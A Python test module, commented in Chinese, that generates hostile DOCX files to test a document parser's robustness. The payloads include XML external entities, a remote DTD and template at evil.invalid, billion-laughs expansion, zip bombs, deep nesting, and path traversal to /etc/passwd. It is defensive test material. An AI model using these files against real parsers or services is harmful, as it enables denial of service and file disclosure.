"""敌意的 DOCX。"""

from __future__ import annotations

from collections.abc import Mapping

from evals.reliability.broken.pack import lying, packed, packed_large
from evals.reliability.broken.pictures import png
from evals.reliability.broken.row import MB, RULE, Row, laughs, outside

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def docx(body: str, more: Mapping[str, str | bytes] = {}, head: str = "") -> bytes:
    """最小的 DOCX；``head`` 写在 document.xml 的根之前。"""
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/document.xml": f"{head}<w:document {_W}><w:body>{body}</w:body></w:document>",
    }
    return packed({**parts, **more})


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _relations(*rows: str) -> str:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    inner = "".join(
        f'<Relationship Id="r{n}" Type="{kind}/{name}" Target="{target}"{mode}/>'
        for n, (name, target, mode) in enumerate(row.split("|") for row in rows)
    )
    return (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inner}</Relationships>'
    )


def _nested(template: str, depth: int, inner: str) -> str:
    before, _, after = template.partition("{}")
    return before * depth + inner + after * depth


_BODY = "".join(map(paragraph, RULE.splitlines()))
_TABLE = "<w:tbl><w:tr><w:tc>{}</w:tc><w:tc><w:p/></w:tc></w:tr></w:tbl>"
_NOTE = '<w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p>'
_NOTES = f'<w:footnotes {_W}><w:footnote w:id="2"><w:p><w:r><w:t>注</w:t><w:footnoteReference w:id="2"/></w:r></w:p></w:footnote></w:footnotes>'
_LOOP = f'<w:styles {_W}>{"".join(f"""<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 9}"/></w:style>""" for n in range(9))}</w:styles>'

WORDS = (
    Row("正常的.docx", lambda: docx(_BODY), "每餐补贴3元"),
    Row("外部实体.docx", lambda: docx(paragraph("&x;") + _BODY, head=outside())),
    Row(
        "远处的实体.docx",
        lambda: docx(paragraph("&x;") + _BODY, head='<!DOCTYPE d SYSTEM "http://evil.invalid/x.dtd">'),
    ),
    Row("十亿个笑.docx", lambda: docx(paragraph("&l9;") + _BODY, head=laughs())),
    Row(
        "平方级的实体.docx",
        lambda: docx(paragraph("&a;" * 20_000), head=f'<!DOCTYPE d [<!ENTITY a "{"哈" * 20_000}">]>'),
    ),
    Row("炸弹.docx", lambda: packed_large({"word/document.xml": b"<a/>"}, "word/media/a.bin", 400)),
    Row("正文是炸弹.docx", lambda: packed_large({}, "word/document.xml", 400)),
    Row("正文是百兆空白.docx", lambda: docx(" " * (100 * MB) + _BODY)),
    Row("套一万层的表.docx", lambda: docx(_nested(_TABLE, 10_000, _BODY))),
    Row("套一百层的表.docx", lambda: docx(_nested(_TABLE, 100, _BODY))),
    Row(
        "套一万层的文本框.docx",
        lambda: docx(_nested("<w:p><w:r><w:txbxContent>{}</w:txbxContent></w:r></w:p>", 10_000, _BODY)),
    ),
    Row(
        "跨二十亿列.docx",
        lambda: docx(
            f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>{_BODY}</w:tc></w:tr></w:tbl>' + _BODY
        ),
    ),
    Row("一万段.docx", lambda: docx("".join(paragraph(f"第{n}条 甲。") for n in range(1, 10_001))), "第10000条"),
    Row(
        "一万行的表.docx",
        lambda: docx(
            "<w:tbl>"
            + f"<w:tr>{'<w:tc>' + paragraph('市民政局') + '</w:tc>'}<w:tc>{paragraph('2025年底')}</w:tc></w:tr>"
            * 10_000
            + "</w:tbl>"
        ),
        "市民政局",
    ),
    Row(
        "脚注套自己.docx",
        lambda: docx(
            _NOTE + _BODY,
            {"word/footnotes.xml": _NOTES, "word/_rels/document.xml.rels": _relations("footnotes|footnotes.xml|")},
        ),
    ),
    Row(
        "样式绕圈.docx",
        lambda: docx(
            '<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr><w:r><w:t>甲</w:t></w:r></w:p>' + _BODY,
            {"word/styles.xml": _LOOP, "word/_rels/document.xml.rels": _relations("styles|styles.xml|")},
        ),
    ),
    Row(
        "远处的模板.docx",
        lambda: docx(
            _BODY,
            {
                "word/_rels/document.xml.rels": _relations(
                    'attachedTemplate|http://evil.invalid/a.dotm| TargetMode="External"'
                )
            },
        ),
        "每餐补贴3元",
    ),
    Row(
        "关系指到外面.docx",
        lambda: docx(_BODY, {"word/_rels/document.xml.rels": _relations("image|../../../../etc/passwd|")}),
    ),
    Row("没有正文.docx", lambda: packed({"a.txt": "x"})),
    Row("正文不是XML.docx", lambda: docx("</w:body>")),
    Row("正文空着.docx", lambda: packed({"word/document.xml": b""})),
    Row("目录谎报大小.docx", lambda: lying(docx(_BODY * 50))),
    Row("带宏的.docm", lambda: docx(_BODY, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 100}), "每餐补贴3元"),
    Row("名字出界.docx", lambda: docx(_BODY, {"../../../../tmp/zhengwen-escaped.txt": "x"}), "每餐补贴3元"),
    Row("一万件.docx", lambda: docx(_BODY, {f"word/media/{n}.png": b"x" for n in range(10_000)})),
    Row("加密的.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5000),
    Row("四字节的怪字.docx", lambda: docx(paragraph("第一条 \U0002a6a5\U0010fffd。") + _BODY), "每餐补贴3元"),
    Row(
        "编号到一万级.docx",
        lambda: docx(
            _BODY,
            {
                "word/numbering.xml": f"<w:numbering {_W}>{'<w:abstractNum/>' * 10_000}</w:numbering>",
                "word/_rels/document.xml.rels": _relations("numbering|numbering.xml|"),
            },
        ),
    ),
    Row("大图.docx", lambda: docx(_BODY, {"word/media/a.png": png(60_000, 60_000)}), "每餐补贴3元"),
)
